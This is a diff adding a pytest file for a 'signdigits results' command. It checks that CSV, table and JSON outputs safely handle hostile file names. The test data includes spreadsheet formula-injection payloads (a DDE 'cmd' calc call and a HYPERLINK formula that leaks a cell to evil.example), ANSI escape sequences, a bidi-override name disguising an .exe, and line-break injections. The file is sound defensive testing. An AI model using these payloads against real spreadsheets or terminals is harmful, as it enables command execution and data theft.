@@ -1,0 +1,111 @@
+"""`signdigits results` with hostile file names: CSV a spreadsheet cannot run, a table
+that sends nothing raw to the terminal, JSON exact. The real command, a real SQLite file."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import uuid
+
+import pytest
+
+from tests.conftest import make_env
+
+# Each is a legal file name on Linux.
+HOSTILE = [
+    "=cmd|' /C calc'!A0.jpg",
+    '=HYPERLINK("http://evil.example/?"&A1,"click").jpg',
+    "+1+2.jpg",
+    "-2+3.jpg",
+    "@SUM(A1).jpg",
+    "\tTAB.jpg",
+    "\rCR.jpg",
+    "one\rtwo.jpg",
+    "new\nline.jpg",
+    "ansi\x1b[2J\x1b[31mred.jpg",
+    "bell\x07del\x7f.jpg",
+    "bidi\u202egpj.exe",
+    "back\\slash.jpg",
+]
+PLAIN = ["plain.jpg", "ünïcødé ✋.jpg", "a-b=c.jpg"]
+FORMULA_ERROR = "=1+1 cannot decode"
+
+
+@pytest.fixture
+def results_database(tmp_path) -> tuple[str, str]:
+    """A job whose rows hold the hostile names, one with a hostile error message."""
+    from sqlalchemy import update
+
+    from db.migrate import upgrade
+    from db.models import Image, ImageStatus, Job, utcnow
+    from db.queries import add_manifest, create_job
+    from db.session import session_factory
+
+    url = f"sqlite:///{tmp_path / 'sd.db'}"
+    upgrade(url)
+    names = HOSTILE + PLAIN
+    job_id = uuid.uuid4().hex
+    with session_factory(url).begin() as session:
+        create_job(session, job=Job(id=job_id, root="/photos", threshold=0.5, batch_size=64,
+                                    total_images=len(names), total_batches=1,
+                                    model_version="test", inline=False))
+        add_manifest(session, job_id=job_id, rows=[(0, name) for name in names])
+        session.execute(update(Image).values(
+            status=ImageStatus.DONE, digit=3, confidence=0.25, below_threshold=True,
+            worker="-host", finished_at=utcnow()))
+        session.execute(update(Image).where(Image.path == "plain.jpg").values(
+            status=ImageStatus.ERROR, digit=None, confidence=None, below_threshold=None,
+            error=FORMULA_ERROR))
+    return url, job_id
+
+
+def _results(url: str, cwd, *args: str) -> bytes:
+    import subprocess
+    import sys
+
+    result = subprocess.run([sys.executable, "-m", "signdigits", "results", "latest", *args],
+                            env=make_env(database_url=url), cwd=cwd, capture_output=True,
+                            timeout=120, stdin=subprocess.DEVNULL)
+    assert result.returncode == 0, result.stderr.decode(errors="replace")[-3000:]
+    return result.stdout
+
+
+def test_csv_cells_cannot_run_as_formulas_and_every_row_stays_one(results_database, tmp_path):
+    url, _ = results_database
+    raw = _results(url, tmp_path, "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
+    assert len(rows) == len(HOSTILE) + len(PLAIN)  # a "\r" in a name split its row before
+    by_path = {row["path"]: row for row in rows}
+    for name in HOSTILE:
+        expected = "'" + name if name[0] in "=+-@\t\r" else name
+        assert expected in by_path, (name, sorted(by_path))
+    for name in PLAIN:
+        assert name in by_path
+    for row in rows:
+        assert not row["path"].startswith(("=", "+", "-", "@", "\t", "\r")), row["path"]
+        assert row["worker"] == "'-host"
+    assert by_path["plain.jpg"]["error"] == "'" + FORMULA_ERROR
+    assert by_path["a-b=c.jpg"]["confidence"] == "0.25"  # numbers are left as numbers
+
+
+def test_the_table_escapes_every_control_character(results_database, tmp_path):
+    url, _ = results_database
+    text = _results(url, tmp_path).decode("utf-8")
+    lines = text.split("\n")
+    assert lines[-1] == "" and len(lines) - 2 == len(HOSTILE) + len(PLAIN)  # header + rows
+    for char in text:
+        assert char == "\n" or char.isprintable(), repr(char)
+    for shown in ("ansi\\x1b[2J\\x1b[31mred.jpg", "one\\rtwo.jpg", "new\\nline.jpg",
+                  "bidi\\u202egpj.exe", "bell\\x07del\\x7f.jpg", "back\\\\slash.jpg"):
+        assert shown in text, shown
+
+
+def test_json_keeps_every_name_exact(results_database, tmp_path):
+    url, _ = results_database
+    target = tmp_path / "out" / "results.json"
+    target.parent.mkdir()
+    assert _results(url, tmp_path, "--format", "json", "--output", str(target)) == b""
+    rows = json.loads(target.read_text(encoding="utf-8"))
+    assert sorted(row["path"] for row in rows) == sorted(HOSTILE + PLAIN)
+    assert list(target.parent.iterdir()) == [target]  # no temporary file left beside it
